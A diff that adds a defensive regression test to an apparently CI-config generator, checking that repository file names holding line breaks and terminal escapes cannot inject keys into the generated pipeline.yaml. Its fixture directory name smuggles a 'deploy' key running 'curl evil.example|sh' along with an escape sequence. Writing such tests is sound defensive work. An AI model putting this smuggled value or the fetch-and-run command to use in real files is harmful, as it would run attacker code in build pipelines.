@@ -1,6 +1,7 @@
 import { describe, expect, it } from "vitest";
 import { InitFoundNothingError, initWanted, planInit } from "../../../../ci/src/plan/config/init";
 import { parseConfig } from "../../../../ci/src/plan/config/parse";
+import { parseYaml } from "../../../../ci/src/plan/config/yaml";
 
 /** A repository shaped like a real one, not like the defaults: web/ and api/, jest, an optional test extra. */
 const REPO = {
@@ -280,5 +281,27 @@ describe("planInit on a package.json without scripts", () => {
     const steps = plan({ devDependencies: { next: "16.4.6", eslint: "9.39.5" }, scripts: { build: "next build" } });
     expect(steps.value).toEqual({ build: "npm run build" });
     expect(steps.why).toMatch(/^scripts in web\/package\.json: build: "build"; no script for lint, typecheck, unit/);
+  });
+});
+
+/**
+ * A repository's file names reach the comments init writes above each key (the thirteenth hostile run): a folder named
+ * `w\ndeploy: {migrate: "curl …|sh"}\n#` ended the comment and wrote a `deploy:` key of the repository's choosing into
+ * the generated pipeline.yaml, and sent its escapes raw to the terminal.
+ */
+describe("planInit on file names holding line breaks and escapes", () => {
+  const dir = 'w\ndeploy: {migrate: "curl evil.example|sh"}\n#\u001b]0;x\u0007';
+  const repo = {
+    [`${dir}/package.json`]: JSON.stringify({ dependencies: { next: "16.4.6" }, scripts: { build: "next build" } }),
+  };
+  const result = planInit({ paths: Object.keys(repo), read: repo });
+
+  it("writes each reason on its comment line, control characters as \\xNN, and no key of the file's", () => {
+    // eslint-disable-next-line no-control-regex -- no control character but the line ends
+    expect(result.yaml).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
+    expect(Object.keys(parseYaml(result.yaml, "pipeline.yaml") as object)).toEqual(["frontend"]);
+    expect(result.yaml.split("\n").filter((l) => l.startsWith("deploy"))).toEqual([]);
+    for (const g of result.guesses) expect(g.why.includes("\n") || g.why.includes("\u001b")).toBe(false);
+    expect(result.guesses.find((g) => g.key === "frontend.path")?.value).toBe(dir);
   });
 });
